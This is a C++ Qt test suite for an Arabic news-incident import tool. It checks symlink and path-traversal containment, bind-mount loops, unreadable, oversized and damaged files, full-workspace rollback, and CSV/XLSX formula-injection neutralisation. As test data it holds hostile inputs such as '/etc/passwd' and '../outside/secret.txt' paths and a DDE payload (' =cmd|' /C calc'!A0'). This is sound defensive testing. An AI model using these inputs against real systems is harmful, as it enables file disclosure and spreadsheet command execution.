    QTest::newRow("linked folder outside, named like an article") << QStringList{u"sub.txt -> outside"_s}
                                                                  << u"sub.txt"_s;
    QTest::newRow("path through a linked folder outside")
        << QStringList{u"deep/x.txt -> ../sub/secret.txt"_s, u"sub -> outside"_s} << u"deep/x.txt"_s;
    QTest::newRow("link to the folder above") << QStringList{u"parent -> .."_s} << u"parent"_s;
    QTest::newRow("link to the root of the disk") << QStringList{u"root -> /"_s} << u"root"_s;
    QTest::newRow("JSON path field with ..")
        << QStringList{u"items.jsonl = {\"path\": \"../outside/secret.txt\", \"file\": \"/etc/passwd\", "
                       "\"text\": \"نص الخبر عن هجوم إلكتروني على وزارة الصحة في الأردن.\"}"_s}
        << QString();
}

void HostileTest::neverReadsOutsideTheFolder()
{
    QFETCH(QStringList, links);
    QFETCH(QString, reported);
    QTemporaryDir dir;
    const QString folder = dir.filePath(u"articles"_s);
    const QString outside = dir.filePath(u"outside"_s);
    const QByteArray secret = "SECRET-7f3a: " + article(7).toUtf8();
    QVERIFY(writeFile(outside + u"/secret.txt"_s, secret));
    QVERIFY(writeFile(folder + u"/good.txt"_s, article(1).toUtf8()));
    for (const QString &link : links) {
        if (const qsizetype equals = link.indexOf(u" = "_s); equals > 0) {
            QVERIFY(writeFile(folder + u'/' + link.left(equals), link.mid(equals + 3).toUtf8() + '\n'));
            continue;
        }
        const QString name = link.section(u" -> "_s, 0, 0);
        QString target = link.section(u" -> "_s, 1);
        if (target.startsWith(u"outside"_s)) {
            target = dir.filePath(target);
        }
        QVERIFY(QDir().mkpath(QFileInfo(folder + u'/' + name).absolutePath()));
        QVERIFY2(QFile::link(target, folder + u'/' + name), qPrintable(link));
    }
    Workspace ws;
    QVERIFY(ws.open(dir.filePath(u"w.rasid"_s)));
    const ImportSummary summary = importFolder(ws, folder, true);
    QVERIFY2(summary.error.isEmpty(), qPrintable(summary.error));
    // Nothing of the secret reached the workspace, in any column of any table.
    const QStringList texts = column(ws, u"SELECT coalesce(title, '') || ' ' || text FROM articles"_s);
    for (const QString &text : texts) {
        QVERIFY2(!text.contains(u"SECRET-7f3a"_s), qPrintable(text));
        QVERIFY(!text.contains(u"root:"_s));
    }
    QVERIFY(texts.size() >= 1);
    if (!reported.isEmpty()) {
        const QString reason =
            firstValue(ws, u"SELECT reason FROM problems WHERE path = '%1'"_s.arg(reported)).toString();
        QVERIFY2(reason.contains(u"links outside the folder"_s), qPrintable(reason));
        QCOMPARE(firstValue(ws, u"SELECT count(*) FROM articles"_s).toInt(), 1);
    } else {
        QCOMPARE(firstValue(ws, u"SELECT count(*) FROM articles"_s).toInt(), 2);
    }
}

void HostileTest::survivesABindMountLoop()
{
    // A folder mounted inside itself: every level has a new name, so only the
    // folder's device and inode tell that it was listed already.
    QTemporaryDir dir;
    const QString folder = dir.filePath(u"articles"_s);
    QVERIFY(writeFile(folder + u"/good.txt"_s, article(1).toUtf8()));
    QVERIFY(QDir().mkpath(folder + u"/loop"_s));
    const QByteArray target = QFile::encodeName(folder + u"/loop"_s);
    if (::mount(QFile::encodeName(folder).constData(), target.constData(), nullptr, MS_BIND, nullptr) != 0) {
        QSKIP("this process may not bind-mount a folder (not root, or a container forbids it)");
    }
    const auto unmount = qScopeGuard([&target] { ::umount2(target.constData(), MNT_DETACH); });
    QVERIFY(QFileInfo::exists(folder + u"/loop/loop/good.txt"_s) || QFileInfo::exists(folder + u"/loop/good.txt"_s));
    Workspace ws;
    QVERIFY(ws.open(dir.filePath(u"w.rasid"_s)));
    QElapsedTimer timer;
    timer.start();
    const ImportSummary summary = importFolder(ws, folder);
    QVERIFY2(summary.error.isEmpty(), qPrintable(summary.error));
    QVERIFY(timer.elapsed() < 30000 * kSlowdown);
    QCOMPARE(summary.filesSeen, 1);
    QCOMPARE(firstValue(ws, u"SELECT count(*) FROM articles"_s).toInt(), 1);
    QCOMPARE(firstValue(ws, u"SELECT path FROM articles"_s).toString(), u"good.txt"_s);
}

void HostileTest::recordsAnUnreadableFile()
{
    // Root reads any file whatever its permission bits: as root, this test
    // runs again as user nobody (setpriv), where chmod 000 does bind.
    if (::geteuid() == 0 && !qEnvironmentVariableIsSet("RASID_HOSTILE_UNPRIVILEGED")) {
        const QString setpriv = QStandardPaths::findExecutable(u"setpriv"_s);
        if (setpriv.isEmpty()) {
            QSKIP("running as root without setpriv: no file is unreadable to this process");
        }
        QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
        environment.insert(u"RASID_HOSTILE_UNPRIVILEGED"_s, u"1"_s);
        environment.insert(u"HOME"_s, u"/tmp"_s);
        environment.insert(u"TMPDIR"_s, u"/tmp"_s);
        QProcess child;
        child.setProcessEnvironment(environment);
        child.setProcessChannelMode(QProcess::MergedChannels);
        child.start(setpriv, {u"--reuid=65534"_s, u"--regid=65534"_s, u"--clear-groups"_s,
                              QCoreApplication::applicationFilePath(), u"recordsAnUnreadableFile"_s});
        QVERIFY(child.waitForFinished(120000));
        const QString output = QString::fromUtf8(child.readAll());
        QVERIFY2(child.exitCode() == 0 && output.contains(u"PASS   : HostileTest::recordsAnUnreadableFile"_s),
                 qPrintable(output));
        return;
    }
    QTemporaryDir dir;
    const QString folder = dir.filePath(u"articles"_s);
    QVERIFY(writeFile(folder + u"/good.txt"_s, article(1).toUtf8()));
    QVERIFY(writeFile(folder + u"/closed.txt"_s, article(2).toUtf8()));
    QVERIFY(QFile::setPermissions(folder + u"/closed.txt"_s, QFileDevice::Permissions()));
    {
        QFile probe(folder + u"/closed.txt"_s);
        QVERIFY2(!probe.open(QIODevice::ReadOnly), "this user can still read the file");
    }
    Workspace ws;
    QVERIFY(ws.open(dir.filePath(u"w.rasid"_s)));
    const ImportSummary summary = importFolder(ws, folder);
    QVERIFY2(summary.error.isEmpty(), qPrintable(summary.error));
    QCOMPARE(summary.failed, 1);
    QCOMPARE(firstValue(ws, u"SELECT count(*) FROM articles"_s).toInt(), 1);
    const QString reason = firstValue(ws, u"SELECT reason FROM problems WHERE path = 'closed.txt'"_s).toString();
    QVERIFY2(reason.contains(u"permission denied"_s, Qt::CaseInsensitive), qPrintable(reason));
}

void HostileTest::importsBesideA200MegabyteFileInBoundedMemory()
{
    // A real 200 MB file of Arabic text (not sparse: reading it would cost its
    // size and twice that decoded), imported by rasid-cli in a child whose
    // peak resident memory the kernel reports to wait4().
    QTemporaryDir dir;
    const QString folder = dir.filePath(u"articles"_s);
    QVERIFY(writeFile(folder + u"/good.txt"_s, article(1).toUtf8()));
    {
        QFile big(folder + u"/big.jsonl"_s);
        QVERIFY(big.open(QIODevice::WriteOnly));
        const QByteArray line = "{\"title\": \"عنوان\", \"text\": \"" + article(2).toUtf8().replace('\n', ' ') + "\"}\n";
        const QByteArray chunk = line.repeated(1024 * 1024 / line.size() + 1);
        while (big.size() < 200LL * 1024 * 1024) {
            QVERIFY(big.write(chunk) == chunk.size());
        }
    }
    const QByteArray cli = QByteArrayLiteral(RASID_CLI_PATH);
    const QByteArray folderArg = QFile::encodeName(folder);
    const QByteArray workspaceArg = QFile::encodeName(dir.filePath(u"w.rasid"_s));
    QVector<char *> argv{const_cast<char *>(cli.constData()), const_cast<char *>("import"),
                         const_cast<char *>(folderArg.constData()), const_cast<char *>("--workspace"),
                         const_cast<char *>(workspaceArg.constData()), const_cast<char *>("--quiet"), nullptr};
    posix_spawn_file_actions_t actions;
    posix_spawn_file_actions_init(&actions);
    posix_spawn_file_actions_addopen(&actions, 1, "/dev/null", O_WRONLY, 0);
    posix_spawn_file_actions_addopen(&actions, 2, "/dev/null", O_WRONLY, 0);
    pid_t pid = 0;
    QElapsedTimer timer;
    timer.start();
    QCOMPARE(::posix_spawn(&pid, cli.constData(), &actions, nullptr, argv.data(), environ), 0);
    posix_spawn_file_actions_destroy(&actions);
    int status = 0;
    struct rusage usage{};
    QCOMPARE(::wait4(pid, &status, 0, &usage), pid);
    const qint64 peakKb = usage.ru_maxrss; // kB on Linux
    qInfo("rasid-cli import beside a 200 MB file: %lld ms, peak resident memory %lld kB", qint64(timer.elapsed()),
          peakKb);
    QVERIFY(WIFEXITED(status));
    QCOMPARE(WEXITSTATUS(status), 1); // the big file is reported, the rest imported
    QVERIFY2(peakKb > 0 && peakKb < 500 * 1024 * kMemorySlack, qPrintable(QString::number(peakKb)));
    Workspace ws;
    QVERIFY(ws.open(dir.filePath(u"w.rasid"_s), Workspace::Mode::ReadOnly));
    QCOMPARE(firstValue(ws, u"SELECT count(*) FROM articles"_s).toInt(), 1);
    const QString reason = firstValue(ws, u"SELECT reason FROM problems WHERE path = 'big.jsonl'"_s).toString();
    QVERIFY2(reason.contains(u"too large"_s), qPrintable(reason));
}

void HostileTest::fullWorkspaceKeepsEarlierBatchesAndRollsBackTheRest()
{
    QTemporaryDir dir;
    const QString folder = dir.filePath(u"articles"_s);
    for (int i = 0; i < 10; ++i) {
        QVERIFY(writeFile(folder + u"/a%1.txt"_s.arg(i, 2, 10, QChar(u'0')), article(i).repeated(4).toUtf8()));
    }
    Workspace ws;
    QVERIFY(ws.open(dir.filePath(u"w.rasid"_s)));
    const qint64 emptySize = firstValue(ws, u"SELECT page_count * page_size FROM pragma_page_count, pragma_page_size"_s)
                                 .toLongLong();
    QVERIFY(importFolder(ws, folder, true, 2).error.isEmpty());
    const qint64 tenSize = firstValue(ws, u"SELECT page_count * page_size FROM pragma_page_count, pragma_page_size"_s)
                               .toLongLong();
    // Thirty more articles, with room for about ten of them.
    for (int i = 10; i < 40; ++i) {
        QVERIFY(writeFile(folder + u"/a%1.txt"_s.arg(i, 2, 10, QChar(u'0')), article(i).repeated(4).toUtf8()));
    }
    QVERIFY(ws.setSizeLimit(tenSize + (tenSize - emptySize)));

    const ImportSummary summary = importFolder(ws, folder, true, 2);
    QVERIFY2(summary.error.contains(u"full"_s), qPrintable(summary.error));
    QVERIFY2(summary.error.contains(u"workspace"_s), qPrintable(summary.error));
    verifySound(ws);
    const int stored = firstValue(ws, u"SELECT count(*) FROM articles"_s).toInt();
    QVERIFY2(stored > 10 && stored < 40, qPrintable(QString::number(stored))); // earlier batches kept
    // The summary counts what was committed, not the batch that was rolled back.
    QCOMPARE(summary.articles, stored - 10);
    QCOMPARE(summary.imported, stored - 10);
    // Nothing half-written: each stored article has its file row, text, index
    // entry and entities; each file marked imported has its article.
    QCOMPARE(firstValue(ws, u"SELECT count(*) FROM files WHERE status = 'imported'"_s).toInt(), stored);
    QCOMPARE(firstValue(ws, u"SELECT count(*) FROM articles WHERE text = ''"_s).toInt(), 0);
    QCOMPARE(firstValue(ws, u"SELECT count(*) FROM articles a WHERE NOT EXISTS "
                        "(SELECT 1 FROM entities e WHERE e.article_id = a.id)"_s).toInt(), 0);
    QCOMPARE(ws.searchCount(u"تفاصيل"_s), stored);

    // With room again, the next import completes the folder without duplicates.
    QVERIFY(ws.setSizeLimit(0));
    const ImportSummary resumed = importFolder(ws, folder, true, 2);
    QVERIFY2(resumed.error.isEmpty(), qPrintable(resumed.error));
    QCOMPARE(firstValue(ws, u"SELECT count(*) FROM articles"_s).toInt(), 40);
    QCOMPARE(firstValue(ws, u"SELECT count(*) FROM articles WHERE duplicate_of IS NOT NULL"_s).toInt(), 0);
    verifySound(ws);
}

void HostileTest::fullWorkspaceRejectsAnAnalystEditWhole()
{
    QTemporaryDir dir;
    Workspace ws;
    QVERIFY(ws.open(dir.filePath(u"w.rasid"_s)));
    const qint64 articleId = addArticle(ws, u"a.txt"_s, u"عنوان"_s, kArticle);
    QVERIFY(articleId > 0);
    QVERIFY(addIncident(ws, articleId, u"وزارة الصحة"_s));
    const qint64 incidentId = firstValue(ws, u"SELECT max(id) FROM incidents"_s).toLongLong();
    ReviewStore store(ws, u"سارة"_s);
    QVERIFY(store.setFieldValue(incidentId, u"actor"_s, u"قراصنة"_s));
    const int audits = firstValue(ws, u"SELECT count(*) FROM audit"_s).toInt();
    const IncidentRecord before = store.incident(incidentId);

    QVERIFY(ws.setSizeLimit(1)); // no page beyond those the file has
    const QString huge = u"وزارة الصحة "_s.repeated(20000); // needs new pages
    QVERIFY(!store.setFieldValue(incidentId, u"victim"_s, huge));
    QVERIFY2(store.lastError().contains(u"full"_s), qPrintable(store.lastError()));
    QCOMPARE(store.incident(incidentId), before);
    QCOMPARE(firstValue(ws, u"SELECT count(*) FROM audit"_s).toInt(), audits);
    QCOMPARE(store.articleReview(articleId).state, u"in_review"_s);
    verifySound(ws);
    // The workspace still takes edits that fit.
    QVERIFY(ws.setSizeLimit(0));
    QVERIFY(store.setFieldValue(incidentId, u"victim"_s, huge));
}

void HostileTest::refusesDamagedWorkspacesAndLeavesThemUntouched_data()
{
    QTest::addColumn<QString>("damageKind");
    QTest::addColumn<bool>("opens");
    QTest::newRow("garbage after the magic string") << u"header"_s << false;
    QTest::newRow("truncated to half") << u"half"_s << false;
    QTest::newRow("truncated inside the header") << u"stub"_s << false;
    QTest::newRow("random bytes in the middle") << u"middle"_s << true;
    QTest::newRow("a zeroed block in the middle") << u"zeros"_s << true;
}

void HostileTest::refusesDamagedWorkspacesAndLeavesThemUntouched()
{
    QFETCH(QString, damageKind);
    QFETCH(bool, opens);
    QTemporaryDir dir;
    const QString folder = dir.filePath(u"articles"_s);
    const QString path = dir.filePath(u"w.rasid"_s);
    QVERIFY(buildWorkspace(path, folder, 30));
    const qint64 size = QFileInfo(path).size();
    const qint64 middle = size / 2 / 4096 * 4096;
    if (damageKind == u"header") {
        QVERIFY(damage(path, 16, 84));
    } else if (damageKind == u"half") {
        QVERIFY(QFile::resize(path, size / 2));
    } else if (damageKind == u"stub") {
        QVERIFY(QFile::resize(path, 50));
    } else {
        QVERIFY(damage(path, middle, 3 * 4096, damageKind == u"zeros"));
    }
    QVERIFY(writeFile(folder + u"/new.txt"_s, article(99).toUtf8()));
    const QByteArray original = readAll(path);

    Workspace ws;
    QCOMPARE(ws.open(path), opens);
    if (!opens) {
        QVERIFY2(ws.lastError().contains(u"damaged"_s) && ws.lastError().contains(u"left untouched"_s),
                 qPrintable(ws.lastError()));
    } else {
        QString problem;
        QVERIFY(!ws.checkIntegrity(&problem));
        QVERIFY2(problem.contains(u"damaged"_s), qPrintable(problem));
        const ImportSummary summary = importFolder(ws, folder, true);
        QVERIFY2(summary.error.contains(u"damaged"_s) && summary.error.contains(u"Nothing was written"_s),
                 qPrintable(summary.error));
        ws.close();
    }
    QVERIFY(!QFileInfo::exists(path + u"-wal"_s) || QFileInfo(path + u"-wal"_s).size() == 0);
    QCOMPARE(readAll(path), original);
    // Read-only opens leave it alone too.
    Workspace reader;
    reader.open(path, Workspace::Mode::ReadOnly);
    reader.close();
    QCOMPARE(readAll(path), original);
}

void HostileTest::cliRefusesDamagedWorkspacesAndLeavesThemUntouched_data()
{
    refusesDamagedWorkspacesAndLeavesThemUntouched_data();
}

void HostileTest::cliRefusesDamagedWorkspacesAndLeavesThemUntouched()
{
    QFETCH(QString, damageKind);
    QTemporaryDir dir;
    const QString folder = dir.filePath(u"articles"_s);
    const QString path = dir.filePath(u"w.rasid"_s);
    QVERIFY(buildWorkspace(path, folder, 30));
    const qint64 size = QFileInfo(path).size();
    if (damageKind == u"header") {
        QVERIFY(damage(path, 16, 84));
    } else if (damageKind == u"half") {
        QVERIFY(QFile::resize(path, size / 2));
    } else if (damageKind == u"stub") {
        QVERIFY(QFile::resize(path, 50));
    } else {
        QVERIFY(damage(path, size / 2 / 4096 * 4096, 3 * 4096, damageKind == u"zeros"));
    }
    QVERIFY(writeFile(folder + u"/new.txt"_s, article(99).toUtf8()));
    const QByteArray original = readAll(path);

    const QString cli = QStringLiteral(RASID_CLI_PATH);
    auto run = [&cli](const QStringList &arguments, QString *errors) {
        QProcess process;
        process.start(cli, arguments);
        if (!process.waitForFinished(120000)) {
            process.kill();
            return -1;
        }
        *errors = QString::fromUtf8(process.readAllStandardError());
        return process.exitStatus() == QProcess::NormalExit ? process.exitCode() : -1;
    };
    QString errors;
    QCOMPARE(run({u"import"_s, folder, u"--workspace"_s, path, u"--quiet"_s}, &errors), 1);
    QVERIFY2(errors.contains(u"damaged"_s) || errors.contains(u"not a Rasid workspace"_s), qPrintable(errors));
    QCOMPARE(readAll(path), original);
    // Reading commands either work or say why; they never write.
    for (const QStringList &arguments :
         {QStringList{u"stats"_s, path}, QStringList{u"export"_s, path, u"--format"_s, u"csv"_s, u"--out"_s,
                                                     dir.filePath(u"out.csv"_s)}}) {
        const int code = run(arguments, &errors);
        QVERIFY2(code == 0 || code == 1, qPrintable(errors));
        if (code == 1) {
            QVERIFY2(errors.contains(u"damaged"_s), qPrintable(errors));
        }
        QCOMPARE(readAll(path), original);
    }
}

void HostileTest::neutralizesFormulaCells_data()
{
    QTest::addColumn<QString>("cell");
    QTest::addColumn<bool>("neutralized");
    QTest::newRow("equals") << u"=1+1"_s << true;
    QTest::newRow("plus") << u"+33 6 12 34 56 78"_s << true;
    QTest::newRow("minus before Arabic") << u"-وزارة الداخلية"_s << true;
    QTest::newRow("at") << u"@LockBit"_s << true;
    QTest::newRow("equals before Arabic") << u"=هجوم على بوابة الحكومة"_s << true;
    QTest::newRow("space then equals") << u" =cmd|' /C calc'!A0"_s << true;
    QTest::newRow("spaces then at") << u"   @SUM(A1:A9)"_s << true;
    QTest::newRow("tab then equals") << u"\t=1"_s << true;
    QTest::newRow("no-break space then plus") << u"\u00A0+1"_s << true;
    QTest::newRow("right-to-left mark then equals") << u"\u200F=هجوم"_s << true;
    QTest::newRow("Arabic letter mark then minus") << u"\u061C-هجوم"_s << true;
    QTest::newRow("line break then equals") << u"\n=1+1"_s << true;
    QTest::newRow("carriage return") << u"\rx"_s << true;
    QTest::newRow("plain Arabic") << u"وزارة الصحة"_s << false;
    QTest::newRow("equals inside") << u"a=b"_s << false;
    QTest::newRow("spaces only") << u"   "_s << false;
    QTest::newRow("Arabic then minus") << u"وزارة -الصحة"_s << false;
}

void HostileTest::neutralizesFormulaCells()
{
    QFETCH(QString, cell);
    QFETCH(bool, neutralized);
    QCOMPARE(neutralizeFormula(cell), neutralized ? u'\'' + cell : cell);
}

void HostileTest::neutralizesFormulaCellsInCsvAndXlsx()
{
    const QStringList leads = {
        u"=1+1"_s, u"+33 6"_s, u"-وزارة الداخلية"_s, u"@LockBit"_s, u" =cmd|' /C calc'!A0"_s, u"\t=1"_s,
        u"  @الهيئة"_s, u"\u200F=هجوم"_s,
    };
    QTemporaryDir dir;
    Workspace ws;
    QVERIFY(ws.open(dir.filePath(u"w.rasid"_s)));
    for (int i = 0; i < leads.size(); ++i) {
        const qint64 id = addArticle(ws, u"a%1.txt"_s.arg(i), leads.at(i), kArticle);
        QVERIFY(id > 0);
        QVERIFY(addIncident(ws, id, leads.at(i)));
    }
    // CSV: the cell reads back with its apostrophe.
    const QVector<QStringList> rows = exportedCsv(ws);
    QCOMPARE(rows.size(), leads.size() + 1);
    const qsizetype title = rows.first().indexOf(u"title"_s);
    const qsizetype victim = rows.first().indexOf(u"victim"_s);
    QSet<QString> titles;
    for (qsizetype r = 1; r < rows.size(); ++r) {
        QCOMPARE(rows.at(r).at(title), rows.at(r).at(victim));
        titles.insert(rows.at(r).at(title));
    }
    for (const QString &lead : leads) {
        QVERIFY2(titles.contains(u'\'' + lead), qPrintable(lead));
    }

    // XLSX: a string cell (never a formula) holding the same text.
    if (!xlsxExportAvailable() || QStandardPaths::findExecutable(u"unzip"_s).isEmpty()) {
        QSKIP("no XLSX writer or no unzip");
    }
    const QString xlsx = dir.filePath(u"x.xlsx"_s);
    QString error;
    ExportOptions options;
    options.status = StatusFilter::All;
    QVERIFY2(exportXlsx(ws, xlsx, options, &error), qPrintable(error));
    auto part = [&xlsx](const QString &name) {
        QProcess unzip;
        unzip.start(u"unzip"_s, {u"-p"_s, xlsx, name});
        unzip.waitForFinished(30000);
        return unzip.readAllStandardOutput();
    };
    QStringList shared;
    QXmlStreamReader strings(part(u"xl/sharedStrings.xml"_s));
    while (!strings.atEnd()) {
        strings.readNext();
        if (strings.isStartElement() && strings.name() == u"si") {
            shared.append(QString());
        } else if (strings.isStartElement() && strings.name() == u"t" && !shared.isEmpty()) {
            shared.last() += strings.readElementText();
        }
    }
    const QByteArray sheetXml = part(u"xl/worksheets/sheet1.xml"_s);
    QVERIFY(!sheetXml.isEmpty());
    QVERIFY(!sheetXml.contains("<f>") && !sheetXml.contains("<f "));
    const QString titleColumn = QString(QChar(char16_t(u'A' + title)));
    const QString victimColumn = QString(QChar(char16_t(u'A' + victim)));
    QSet<QString> cells;
    int checked = 0;
    QXmlStreamReader sheet(sheetXml);
    while (!sheet.atEnd()) {
        sheet.readNext();
        if (!sheet.isStartElement() || sheet.name() != u"c") {
            continue;
        }
        const QString ref = sheet.attributes().value(u"r"_s).toString();
        const QString letters = ref.section(QRegularExpression(u"\\d"_s), 0, 0);
        if ((letters != titleColumn && letters != victimColumn) || ref.mid(letters.size()) == u"1") {
            continue;
        }
        const QString type = sheet.attributes().value(u"t"_s).toString();
        QVERIFY2(type == u"s" || type == u"inlineStr" || type == u"str", qPrintable(ref));
        QString value;
        while (!(sheet.isEndElement() && sheet.name() == u"c")) {
            sheet.readNext();
            if (sheet.isStartElement() && (sheet.name() == u"v" || sheet.name() == u"t")) {
                value = sheet.readElementText();
            }
        }
        cells.insert(type == u"s" ? shared.value(value.toInt()) : value);
        ++checked;
    }
    QCOMPARE(checked, 2 * int(leads.size()));
    for (const QString &lead : leads) {
        QVERIFY2(cells.contains(u'\'' + lead), qPrintable(lead));
    }
}

QTEST_GUILESS_MAIN(HostileTest)
#include "hostile_test.moc"
